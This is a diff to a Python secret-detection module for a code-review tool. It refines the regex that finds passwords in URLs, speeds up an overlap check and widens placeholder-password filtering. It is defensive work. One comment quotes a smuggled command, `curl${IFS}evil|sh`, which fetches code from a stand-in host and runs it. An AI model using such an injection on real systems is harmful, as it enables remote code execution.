@@ -14,7 +14,9 @@ repetition that is bounded or cannot backtrack far.
 from __future__ import annotations
 
 import re
+from bisect import bisect_left
 from collections.abc import Iterator, Sequence
+from itertools import accumulate
 from typing import NamedTuple
 
 from gitreview.patterns import lazy_compile
@@ -148,22 +150,32 @@ TOKEN_KINDS: tuple[SecretKind, ...] = (
     ),
 )
 # A password in a URL's user information (`postgres://app:S3cr3t@db.prod.internal/app`,
-# `https://user:token@git.example.org/`): what lies between the `:` and the last `@`
-# before the host. A reference to a value kept elsewhere (`${DB_PASSWORD}`, `$PASS`,
-# `{{ .Values.pass }}`, `%(password)s`, `{password}`) is no credential and stays shown.
+# `https://user:token@git.example.org/`, JSON's `https:\/\/user:token@...`): what lies
+# between the `:` and the last `@` before the host, or a shell default's value
+# (`${DB_PASSWORD:-S3cr3t}`). A reference to a value kept elsewhere (`${DB_PASSWORD}`,
+# `$PASS`, `$env:PASS`, `%PASS%`, `{{ .Values.pass }}`, `%(password)s`, an f-string's
+# `{self.token}`, Ruby's `#{token}`) is no credential and stays shown. Nor is what holds
+# code (`;`, `|`, brackets, braces): hidden as a password, it would hide code from the
+# reviewer (found by a review of the rule: `x;curl${IFS}evil|sh;` read as one). A `/`
+# may be in it (base64), but not after a port (`host:443/@scope/pkg` is a path), nor
+# after an `@` in it (`pw@x@host/path?mail=a@b.io`: the host is the one before the path).
 _URL_REFERENCE = (
-    r"(?:\$\{[^}\s@]{1,100}\}|\$\([^)\s@]{1,100}\)|\$[A-Za-z_][A-Za-z0-9_]{0,100}"
-    r"|\{\{[^}@]{1,100}\}\}|%\([A-Za-z0-9_]{1,100}\)s|%s|\{[A-Za-z0-9_]{0,100}\})@"
+    r"(?:\$+[A-Za-z_][A-Za-z0-9_]{0,100}(?::[A-Za-z_][A-Za-z0-9_]{0,100})?"
+    r"|%[A-Za-z_][A-Za-z0-9_]{0,100}%|%s)@"
 )
+_PASSWORD = r"[^\s\"'`<>\\;|(){}\[\]@]"
+_NO_SLASH = r"[^\s\"'`<>\\;|(){}\[\]@/]"
 URL_PASSWORD = _kind(
     "url-password",
     "password in a URL",
-    r"(?<![A-Za-z0-9+.-])[A-Za-z][A-Za-z0-9+.-]{0,30}://(?P<user>[^\s:/@\"'`<>\\]{0,100}):"
-    r"(?!" + _URL_REFERENCE + r")(?P<value>[^\s/\"'`<>\\]{1,200})"
-    r"@(?P<host>\[[0-9A-Fa-f:.]{2,45}\]|[A-Za-z0-9_](?:[A-Za-z0-9_.-]{0,252}))",
+    r"(?<![A-Za-z0-9+.-])[A-Za-z][A-Za-z0-9+.-]{0,30}:(?://|\\/\\/)"
+    r"(?P<user>[^\s:/@\"'`<>\\]{0,100}):(?!" + _URL_REFERENCE + r")"
+    r"(?:\$\{[A-Za-z_][A-Za-z0-9_]{0,100}:?-)?(?![0-9]{1,5}/)"
+    r"(?P<value>" + _PASSWORD + r"{1,200}(?:@" + _NO_SLASH + r"{1,100}){0,8})\}?"
+    r"@(?P<host>\[[0-9A-Fa-f:.]{2,45}\]|\w[\w.-]{0,252})",
 )
-# The user information's `:` and `@` both on a line: the URL kind's prefilter.
-_URL_LITERALS = ("://", "@")
+# The URL kind's prefilter: an `@` and what follows a scheme (JSON's `:\/\/` too).
+_URL_SEPARATORS = ("://", ":\\/\\/")
 
 # Each token kind's literals, of which every match of it holds one, case for case; and
 # those named in any case, looked for lower-cased: the AWS secret key's "secret"
@@ -216,7 +228,7 @@ def _may_hold_service_token(line: str) -> bool:
 
 
 def _may_hold_url_password(line: str) -> bool:
-    return all(literal in line for literal in _URL_LITERALS)
+    return "@" in line and any(separator in line for separator in _URL_SEPARATORS)
 
 
 def kinds_in(line: str) -> Iterator[SecretKind]:
@@ -259,18 +271,28 @@ def find_tokens(line: str) -> Iterator[TokenMatch]:
     """The single-line credentials in a line, placeholders included. A URL's password
     that another kind matches too (`x-access-token:ghs_...@github.com`) is that one."""
     masked = _masked(line)
-    taken: list[tuple[int, int]] = []
+    taken: list[tuple[int, int]] = []  # the other kinds' spans (URL_PASSWORD comes last)
+    ends: list[int] = []  # the most any of the first n spans (by start) reaches
     for kind in kinds_in(line):
         group = "value" if "value" in kind.pattern.groupindex else 0
+        if kind is URL_PASSWORD and taken:
+            taken.sort()
+            ends = list(accumulate((end for _, end in taken), max))
         for match in kind.pattern.finditer(masked):
             start, end = match.span(group)
             if kind is not URL_PASSWORD:
                 taken.append((start, end))
                 yield TokenMatch(kind, line[start:end])
-            elif not any(
-                start < other_end and other_start < end for other_start, other_end in taken
-            ):
+            elif not _overlaps(taken, ends, start, end):
                 yield TokenMatch(kind, line[start:end], match["user"], match["host"])
+
+
+def _overlaps(spans: list[tuple[int, int]], ends: list[int], start: int, end: int) -> bool:
+    """Whether a span of `spans` (sorted, `ends` their running furthest ends) overlaps
+    start..end: one search, not one comparison per span (a review of the rule: a line
+    of placeholders and passwords was quadratic)."""
+    before = bisect_left(spans, (end, -1))  # the spans that start before `end`
+    return before > 0 and ends[before - 1] > start
 
 
 def reportable(match: TokenMatch) -> bool:
@@ -285,8 +307,13 @@ def reportable(match: TokenMatch) -> bool:
 # on this machine, a container's beside it (a name with no dot: `db`, `redis`), or a
 # reserved name (RFC 2606, RFC 6761).
 _PLACEHOLDER_WORDS: tuple[str, ...] = (
-    *("pass", "p@ss", "pwd", "changeme", "change_me", "change-me", "placeholder", "example"),
-    *("dummy", "redacted", "secret", "your", "xxx", "***", "...", "foo", "bar", "test"),
+    *("passw", "p@ss", "changeme", "change_me", "change-me", "placeholder", "example"),
+    *("dummy", "redacted", "secret", "your_", "your-", "yourp", "xxx", "***", "...", "sesame"),
+)
+# Passwords that are a default, a word of the docs, or a name, whole.
+_PLACEHOLDERS = frozenset(
+    {"pass", "pwd", "foo", "bar", "foobar", "test", "testing", "admin", "root", "guest"}
+    | {"user", "token", "letmein", "qwerty", "hunter2", "postgres", "mysql", "redis"}
 )
 # A name standing for the value (`MY_GITHUB_TOKEN`, `x-oauth-basic`, `my-access-token`):
 # an environment variable's, or words joined as a name is.
@@ -296,6 +323,9 @@ _LOCAL_HOSTS += ("example.com", "example.org", "example.net")
 _LOCAL_SUFFIXES: tuple[str, ...] = (".localhost", ".local", ".test", ".example", ".invalid")
 _LOCAL_SUFFIXES += (".example.com", ".example.org", ".example.net")
 _SHORTEST_PASSWORD = 6
+_LEET = str.maketrans("013457@$", "oieastas")
+_NOT_LETTERS = lazy_compile(r"[^a-z]+")
+_LOOPBACK = lazy_compile(r"127(?:\.[0-9]{1,3}){3}")
 
 
 def _url_placeholder(match: TokenMatch) -> bool:
@@ -303,15 +333,22 @@ def _url_placeholder(match: TokenMatch) -> bool:
 
     password = unquote(match.value).lower()
     host = match.host.strip("[]").lower().rstrip(".")
+    # Its letters as written in a doc's example (`s3cret`, `p@ssw0rd`, `pass pass`).
+    letters = _NOT_LETTERS.sub(" ", password.translate(_LEET))
     return (
         is_placeholder(password)
         or len(password) < _SHORTEST_PASSWORD
         or password == unquote(match.user).lower()
-        or any(word in password for word in _PLACEHOLDER_WORDS)
+        or not _PLACEHOLDERS.isdisjoint(letters.split())
+        or any(
+            word in text
+            for word in _PLACEHOLDER_WORDS
+            for text in (password, letters.replace(" ", ""))
+        )
         or _NAME_FOR_VALUE.fullmatch(unquote(match.value)) is not None
         or host in _LOCAL_HOSTS
         or host.endswith(_LOCAL_SUFFIXES)
-        or host.startswith("127.")
+        or _LOOPBACK.fullmatch(host) is not None
         or ("." not in host and ":" not in host)
     )
 
